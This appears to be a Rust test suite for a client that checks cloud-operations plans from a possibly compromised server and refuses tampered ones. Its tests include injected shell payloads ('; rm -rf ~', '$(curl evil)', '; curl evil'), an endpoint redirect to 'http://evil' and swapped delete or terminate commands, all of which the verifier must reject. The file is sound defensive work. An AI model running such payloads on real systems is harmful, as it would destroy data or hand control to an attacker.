//! The client's check of a server's plan: real plans from the real planner verify, and each
//! way a hostile server could change one is refused with a reason that names it.

use std::collections::BTreeMap;

use cloudops_core::{EnrichedRequest, PlanResponse, RiskLevel, Step};
use cloudops_playbooks::{Library, ParameterSource, Verified, verify_plan};

use crate::snapshots::{sample_value, satisfying};
use crate::support::{planner, request, resource};

const NOW: &str = "202611260930";

/// "Stop pg-instance-main1" for the production-tagged fixture, and the planner's answer.
fn stop_plan() -> (EnrichedRequest, PlanResponse) {
    let request = request("stop pg-instance-main1", vec![resource("rds_instance", "")]);
    let plan = planner().plan_at(&request, NOW).expect("plans");
    assert!(plan.executable, "{}", plan.explain_plan);
    assert_eq!(plan.playbook.as_ref().map(|p| p.id.as_str()), Some("aws_rds_stop_instance"));
    (request, plan)
}

/// The same request planned with `playbook` at `timestamp`.
fn plan_with(playbook: &str, timestamp: &str) -> (EnrichedRequest, PlanResponse) {
    let request = request("stop pg-instance-main1", vec![resource("rds_instance", "")]);
    let plan = planner().plan_with_playbook(&request, playbook, 0.9, timestamp).expect("plans");
    assert!(plan.executable, "{}", plan.explain_plan);
    (request, plan)
}

fn verify(request: &EnrichedRequest, plan: &PlanResponse) -> Result<Verified, String> {
    verify_plan(planner().library(), request, plan).map_err(|refusal| {
        assert!(!refusal.reasons.is_empty(), "a refusal says why");
        refusal.to_string()
    })
}

/// Tampers with the stop plan and expects a refusal whose reasons contain `expected`.
fn check_refused(tamper: impl FnOnce(&mut PlanResponse), expected: &str) {
    let (request, mut plan) = stop_plan();
    tamper(&mut plan);
    match verify(&request, &plan) {
        Ok(_) => panic!("the tampered plan verified, expected {expected:?}: {plan:#?}"),
        Err(reasons) => assert!(reasons.contains(expected), "expected {expected:?} in: {reasons}"),
    }
}

fn first_step(plan: &mut PlanResponse) -> &mut Step {
    plan.script.steps.first_mut().expect("the plan has a step")
}

#[test]
fn the_untouched_plan_verifies() {
    let (request, plan) = stop_plan();
    let verified = verify(&request, &plan).expect("the planner's own plan verifies");
    assert_eq!(verified.playbook.playbook.id, "aws_rds_stop_instance");
    assert_eq!(verified.risk, plan.risk_assessment);
    assert_eq!(verified.risk.level, RiskLevel::Medium);
    assert!(verified.approval_required);
    assert!(!verified.destructive);
}

#[test]
fn descriptions_and_presentation_may_differ() {
    let (request, mut plan) = stop_plan();
    first_step(&mut plan).description = "Politely ask the database to take a nap".into();
    plan.explain_plan = "Something else entirely".into();
    plan.intent = None;
    plan.alternatives.clear();
    plan.required_permissions.clear();
    verify(&request, &plan).expect("only what runs is compared");
}

#[test]
fn a_step_for_another_resource_is_refused() {
    check_refused(
        |plan| first_step(plan).args[1] = "db-other".into(),
        "step 1 acts on db-other, which is not an identified resource",
    );
}

#[test]
fn another_operation_is_refused() {
    check_refused(
        |plan| first_step(plan).command = "aws rds delete-db-instance".into(),
        "step 1 runs `aws rds delete-db-instance`, which playbook aws_rds_stop_instance does not allow",
    );
    check_refused(
        |plan| first_step(plan).command = "aws ec2 terminate-instances".into(),
        "step 1 runs `aws ec2 terminate-instances`, a command of another service than playbook aws_rds_stop_instance's (rds)",
    );
    check_refused(
        |plan| first_step(plan).command = "sh -c".into(),
        "step 1 is not an AWS CLI command: \"sh -c\"",
    );
    check_refused(
        |plan| first_step(plan).command = "aws rds stop-db-instance; curl evil".into(),
        "step 1 is not an AWS CLI command",
    );
    // A command the playbook has, in the wrong place.
    check_refused(
        |plan| first_step(plan).command = "aws rds start-db-instance".into(),
        "step 1 runs `aws rds start-db-instance` where playbook aws_rds_stop_instance runs `aws rds stop-db-instance`",
    );
}

#[test]
fn another_region_is_refused() {
    check_refused(
        |plan| *first_step(plan).args.last_mut().expect("args") = "eu-west-1".into(),
        "step 1 targets region eu-west-1, where no identified resource is",
    );
    check_refused(
        |plan| first_step(plan).args.extend(["--region".into(), "eu-west-1".into()]),
        "step 1 targets region eu-west-1, where no identified resource is",
    );
}

#[test]
fn an_extra_command_is_refused() {
    check_refused(
        |plan| {
            let mut extra = plan.script.steps[0].clone();
            extra.step_id = "2".into();
            extra.command = "aws rds delete-db-instance".into();
            plan.script.steps.push(extra);
        },
        "step 2 is an extra command the playbook does not produce (`aws rds delete-db-instance`)",
    );
    check_refused(
        |plan| first_step(plan).args.extend(["--endpoint-url".into(), "http://evil".into()]),
        "step 1 has extra arguments that playbook aws_rds_stop_instance does not produce: --endpoint-url http://evil",
    );
    check_refused(
        |plan| first_step(plan).args.insert(1, "--debug".into()),
        "step 1 passes the option --debug as argument 2, where playbook aws_rds_stop_instance has the value pg-instance-main1",
    );
}

#[test]
fn shell_metacharacters_are_refused() {
    for payload in ["pg-instance-main1; rm -rf ~", "$(curl evil)", "`id`", "a\nb", "a|b", "x > y"] {
        check_refused(
            |plan| first_step(plan).args[1] = payload.into(),
            "step 1 carries shell metacharacters in argument 2",
        );
    }
    // An inserted argument shifts the rest; the payload is still named.
    check_refused(
        |plan| first_step(plan).args.insert(1, "$(curl evil)".into()),
        "step 1 carries shell metacharacters in argument 2",
    );
    // Capture references are only allowed where the playbook puts them.
    check_refused(
        |plan| first_step(plan).args[1] = "{{ steps.1.image_id }}".into(),
        "step 1 carries shell metacharacters in argument 2",
    );
}

#[test]
fn a_changed_rollback_or_verification_is_refused() {
    check_refused(
        |plan| plan.rollback.steps[0].command = "aws rds delete-db-instance".into(),
        "rollback step 1 runs `aws rds delete-db-instance`, which playbook aws_rds_stop_instance does not allow",
    );
    check_refused(
        |plan| plan.rollback.steps[1].args[1] = "db-other".into(),
        "rollback step 2 acts on db-other, which is not an identified resource",
    );
    check_refused(
        |plan| {
            plan.rollback.steps.pop();
        },
        "the plan leaves out rollback step 2 of playbook aws_rds_stop_instance (`aws rds wait db-instance-available`)",
    );
    check_refused(
        |plan| plan.verification.steps[0].expect = Some("available".into()),
        "verification step 1 expects available where playbook aws_rds_stop_instance expects stopped",
    );
    check_refused(
        |plan| {
            plan.verification.steps[0].capture.insert("x".into(), "DBInstances".into());
        },
        "verification step 1 captures x=DBInstances where playbook aws_rds_stop_instance captures nothing",
    );
}

#[test]
fn changed_step_ids_and_accounts_are_refused() {
    check_refused(
        |plan| first_step(plan).step_id = "7".into(),
        "step 1 has the id 7 where playbook aws_rds_stop_instance has 1",
    );
    check_refused(
        |plan| first_step(plan).account_id = Some("999999999999".into()),
        "step 1 runs in account 999999999999, to which no identified resource belongs",
    );
    check_refused(
        |plan| first_step(plan).account_id = None,
        "step 1 does not say whose credentials run it",
    );
}

#[test]
fn an_unknown_playbook_or_version_is_refused() {
    check_refused(
        |plan| plan.playbook.as_mut().expect("a playbook").id = "aws_rds_nuke_everything".into(),
        "the server used playbook aws_rds_nuke_everything, which this client's library does not have; update the client's library",
    );
    check_refused(
        |plan| plan.playbook.as_mut().expect("a playbook").version = "9.9.9".into(),
        "the server used playbook aws_rds_stop_instance version 9.9.9, this client has 1.0.0; update the client's library",
    );
    check_refused(|plan| plan.playbook = None, "the plan names no playbook");
    check_refused(
        |plan| plan.playbook.as_mut().expect("a playbook").id = "aws_\u{1b}[2J".into(),
        "the server used playbook \"aws_\\u{1b}[2J\"",
    );
}

#[test]
fn a_non_executable_or_empty_plan_is_refused() {
    check_refused(|plan| plan.executable = false, "the server says the plan cannot be executed");
    check_refused(|plan| plan.script.steps.clear(), "the plan has no steps to run");
    // What the client itself would refuse to run stays refused, whatever the server says.
    let stopped = request("stop pg-instance-main1", vec![resource("rds_instance", "stopped")]);
    let (_, plan) = stop_plan();
    let reasons = verify(&stopped, &plan).expect_err("refused");
    assert!(
        reasons.contains("this client would not run playbook aws_rds_stop_instance"),
        "{reasons}"
    );
    assert!(reasons.contains("pg-instance-main1 is stopped"), "{reasons}");
}

#[test]
fn a_playbook_for_another_type_is_refused() {
    let (_, plan) = stop_plan();
    let instance = request("stop it", vec![resource("ec2_instance", "")]);
    let reasons = verify(&instance, &plan).expect_err("refused");
    assert!(
        reasons.contains(
            "identified resource i-0a1b2c3d4e5f60718 is of type ec2_instance, which playbook aws_rds_stop_instance does not cover"
        ),
        "{reasons}"
    );
    let nothing = request("stop it", Vec::new());
    let reasons = verify(&nothing, &plan).expect_err("refused");
    assert!(reasons.contains("the request identifies no resource"), "{reasons}");
}

#[test]
fn the_risk_is_never_lower_than_the_clients() {
    let (request, mut plan) = stop_plan();
    plan.risk_assessment.level = RiskLevel::Low;
    plan.risk_assessment.reasons.clear();
    plan.approval_required = false;
    let verified = verify(&request, &plan).expect("verifies");
    assert_eq!(verified.risk.level, RiskLevel::Medium);
    assert!(verified.risk.reasons.contains(&"Production database".to_owned()));
    assert!(verified.approval_required);

    // A server more careful than the client is listened to (its text cleaned).
    plan.risk_assessment.level = RiskLevel::Critical;
    plan.risk_assessment.reasons = vec!["Change freeze\u{1b}[2J in effect".into()];
    let verified = verify(&request, &plan).expect("verifies");
    assert_eq!(verified.risk.level, RiskLevel::Critical);
    assert_eq!(verified.risk.reasons, ["Change freeze[2J in effect"]);
    assert!(verified.approval_required);
}

#[test]
fn approval_is_required_when_either_side_says_so() {
    let mut development = resource("rds_instance", "");
    development.tags = BTreeMap::from([("env".into(), "dev".into())]);
    development.account_name = Some("sandbox".into());
    development.attributes.insert("multi_az".into(), false.into());
    let request = request("stop pg-instance-main1", vec![development]);
    let mut plan = planner().plan_at(&request, NOW).expect("plans");
    let verified = verify(&request, &plan).expect("verifies");
    assert_eq!(verified.risk.level, RiskLevel::Low);
    assert!(!verified.approval_required);
    plan.approval_required = true;
    assert!(verify(&request, &plan).expect("verifies").approval_required);
}

#[test]
fn timestamps_may_be_any_twelve_digits_but_one_per_plan() {
    for playbook in ["aws_rds_stop_instance_with_snapshot", "aws_rds_create_snapshot"] {
        for timestamp in [NOW, "199912312359", "000000000000"] {
            let (request, plan) = plan_with(playbook, timestamp);
            verify(&request, &plan).unwrap_or_else(|e| panic!("{playbook} at {timestamp}: {e}"));
        }
    }
    let (request, plan) = plan_with("aws_rds_stop_instance_with_snapshot", NOW);
    let snapshot = "pg-instance-main1-stop-202611260930";
    assert!(plan.script.steps[0].args.iter().any(|a| a == snapshot), "{:#?}", plan.script);

    let mut letters = plan.clone();
    letters.script.steps[0].args[3] = "pg-instance-main1-stop-2026112609ab".into();
    let reasons = verify(&request, &letters).expect_err("refused");
    assert!(
        reasons.contains(
            "step 1 argument 4 must carry a 12-digit timestamp (YYYYMMDDHHMM) where playbook aws_rds_stop_instance_with_snapshot puts one: expected pg-instance-main1-stop-YYYYMMDDHHMM, got pg-instance-main1-stop-2026112609ab"
        ),
        "{reasons}"
    );

    let mut short = plan.clone();
    short.script.steps[0].args[3] = "pg-instance-main1-stop-20261126".into();
    assert!(verify(&request, &short).expect_err("refused").contains("12-digit timestamp"));

    // The verification waits for a snapshot of another moment than the one taken.
    let mut two = plan.clone();
    let wait = &mut two.verification.steps[0];
    assert_eq!(wait.args[1], snapshot);
    wait.args[1] = "pg-instance-main1-stop-202611260931".into();
    let reasons = verify(&request, &two).expect_err("refused");
    assert!(
        reasons.contains("verification step 1 uses the timestamp 202611260931 in argument 2 where the plan used 202611260930 before; a plan has one timestamp"),
        "{reasons}"
    );
}

#[test]
fn several_resources_cannot_be_swapped_or_moved() {
    let main = resource("rds_instance", "");
    let mut other = resource("rds_instance", "");
    other.id = Some("pg-instance-east".into());
    other.arn = Some("arn:aws:rds:us-east-1:123456789012:db:pg-instance-east".into());
    other.region = "us-east-1".into();
    let request = request("stop these databases", vec![main, other]);
    let plan =
        planner().plan_with_playbook(&request, "aws_rds_stop_instance", 0.9, NOW).expect("plans");
    verify(&request, &plan).expect("verifies");

    let mut swapped = plan.clone();
    swapped.script.steps[0].args[1] = "pg-instance-east".into();
    let reasons = verify(&request, &swapped).expect_err("refused");
    assert!(
        reasons.contains("step 1 acts on pg-instance-east where playbook aws_rds_stop_instance acts on pg-instance-main1 at this point"),
        "{reasons}"
    );

    let mut moved = plan.clone();
    moved.script.steps[0].args[3] = "us-east-1".into();
    let reasons = verify(&request, &moved).expect_err("refused");
    assert!(
        reasons.contains("step 1 targets region us-east-1 where playbook aws_rds_stop_instance targets us-west-2, its resource's region"),
        "{reasons}"
    );

    let mut reordered = plan.clone();
    reordered.script.steps.swap(0, 1);
    assert!(verify(&request, &reordered).is_err());
}

#[test]
fn a_flood_of_differences_is_summed_up() {
    let (request, mut plan) = stop_plan();
    let step = plan.script.steps[0].clone();
    plan.script.steps.extend(std::iter::repeat_n(step, 10_000));
    let refusal = verify_plan(planner().library(), &request, &plan).expect_err("refused");
    assert_eq!(refusal.reasons.len(), 4, "{refusal}");
    assert!(refusal.reasons[3].contains("steps 5 to 10001 are extra commands"), "{refusal}");

    // Every argument of every step rewritten: the first differences, then a count.
    let (request, mut plan) = stop_plan();
    for step in plan.script.steps.iter_mut().chain(&mut plan.rollback.steps) {
        step.args.iter_mut().for_each(|arg| *arg = "x".repeat(10_000));
        step.args.extend(std::iter::repeat_n("$(x)".to_owned(), 1_000));
    }
    let refusal = verify_plan(planner().library(), &request, &plan).expect_err("refused");
    assert_eq!(refusal.reasons.len(), 21, "{refusal}");
    assert!(
        refusal.reasons[20].starts_with("and ")
            && refusal.reasons[20].ends_with(" more differences")
    );
    assert!(refusal.to_string().len() < 21 * 400, "{refusal}");
}

#[test]
fn every_builtin_playbook_verifies_its_own_plan() {
    let library = Library::builtin();
    for loaded in library.playbooks() {
        let playbook = &loaded.playbook;
        let mut parameters = BTreeMap::new();
        for parameter in &playbook.parameters {
            if parameter.source != ParameterSource::User || parameter.default.is_some() {
                continue;
            }
            if let Some(value) = sample_value(&parameter.name)
                .map(str::to_owned)
                .or_else(|| parameter.allowed.first().cloned())
            {
                parameters.insert(parameter.name.clone(), value);
            }
        }
        let mut request = request(&playbook.examples[0], vec![satisfying(playbook)]);
        request.parameters = parameters;
        let plan = planner().plan_with_playbook(&request, &playbook.id, 0.9, NOW).expect("plans");
        assert!(plan.executable, "{}: {}", playbook.id, plan.explain_plan);
        let verified = verify(&request, &plan).unwrap_or_else(|e| panic!("{}: {e}", playbook.id));
        assert_eq!(verified.risk, plan.risk_assessment, "{}", playbook.id);
        assert_eq!(
            verified.destructive,
            playbook.destructive || plan.risk_assessment.level == RiskLevel::Critical,
            "{}",
            playbook.id
        );
    }
}

#[test]
fn deletions_and_irreversible_changes_are_destructive() {
    let library = Library::builtin();
    let destructive: Vec<&str> = library
        .playbooks()
        .filter(|loaded| loaded.playbook.destructive)
        .map(|loaded| loaded.playbook.id.as_str())
        .collect();
    assert_eq!(
        destructive,
        [
            "aws_ec2_terminate_instances",
            "aws_elbv2_delete_load_balancer",
            "aws_rds_delete_instance",
            "aws_rds_disable_automated_backups",
            "aws_s3_delete_bucket",
            "aws_s3_empty_bucket",
        ]
    );
    let (request, plan) = plan_with("aws_rds_delete_instance", NOW);
    let verified = verify(&request, &plan).expect("verifies");
    assert!(verified.destructive);
    assert!(verified.approval_required);
}

/// A compromised server answers a question with the executable plan for a change: the
/// client reads the request itself and refuses.
#[test]
fn an_executable_plan_for_a_question_is_refused() {
    let (mut request, plan) = stop_plan();
    assert!(verify(&request, &plan).is_ok());
    for prompt in [
        "is pg-instance-main1 stopped?",
        "don't stop pg-instance-main1",
        "what if I stop pg-instance-main1",
        "how many databases are there",
        "thanks",
    ] {
        request.prompt = prompt.to_owned();
        let reasons = verify(&request, &plan).expect_err("refused");
        assert!(reasons.contains("not as a request for a change"), "{prompt}: {reasons}");
    }
}

/// Three instances, the second stopped: `n`-th copies of the EC2 fixture.
fn fleet_request() -> EnrichedRequest {
    let resources = (1..=3)
        .map(|n| {
            let mut instance = resource("ec2_instance", if n == 2 { "stopped" } else { "running" });
            let id = format!("i-0a1b2c3d4e5f6071{n}");
            instance.arn = Some(format!("arn:aws:ec2:us-west-2:123456789012:instance/{id}"));
            instance.name = Some(format!("checkout-web-prod-0{n}"));
            instance.id = Some(id.clone());
            instance.attributes.insert("instance_id".into(), id.into());
            instance
        })
        .collect();
    request("stop all the checkout servers", resources)
}

#[test]
fn a_fleet_plan_names_each_steps_target_and_leaves_out_the_wrong_state() {
    let request = fleet_request();
    let plan =
        planner().plan_with_playbook(&request, "aws_ec2_stop_instances", 0.9, NOW).expect("plans");
    assert!(plan.executable, "{}", plan.explain_plan);
    assert_eq!(plan.skipped.len(), 1, "{plan:#?}");
    assert_eq!(
        plan.skipped[0].target,
        "arn:aws:ec2:us-west-2:123456789012:instance/i-0a1b2c3d4e5f60712"
    );
    assert!(plan.skipped[0].reason.contains("stopped"), "{:?}", plan.skipped[0]);
    let targets: Vec<&str> =
        plan.script.steps.iter().map(|s| s.target.as_deref().expect("a target")).collect();
    assert_eq!(
        targets,
        [
            "arn:aws:ec2:us-west-2:123456789012:instance/i-0a1b2c3d4e5f60711",
            "arn:aws:ec2:us-west-2:123456789012:instance/i-0a1b2c3d4e5f60713"
        ]
    );
    assert!(plan.explain_plan.contains("left out"), "{}", plan.explain_plan);
    verify(&request, &plan).expect("the planner's fleet plan verifies");

    // A plan that leaves out another member, or relabels a step's target, is refused.
    let mut hidden = plan.clone();
    hidden.skipped.clear();
    assert!(verify(&request, &hidden).expect_err("skips changed").contains("leaves out"));
    let mut relabelled = plan.clone();
    relabelled.script.steps[0].target = relabelled.script.steps[1].target.clone();
    assert!(verify(&request, &relabelled).expect_err("relabelled").contains("target"));

    // Every member in the wrong state: nothing is executable, and each is named.
    let mut all_stopped = fleet_request();
    for instance in &mut all_stopped.identified_resources {
        instance.current_state = "stopped".into();
    }
    let plan = planner()
        .plan_with_playbook(&all_stopped, "aws_ec2_stop_instances", 0.9, NOW)
        .expect("plans");
    assert!(!plan.executable);
    assert!(plan.skipped.is_empty());
    assert_eq!(plan.explain_plan.matches("is stopped").count(), 3, "{}", plan.explain_plan);
}
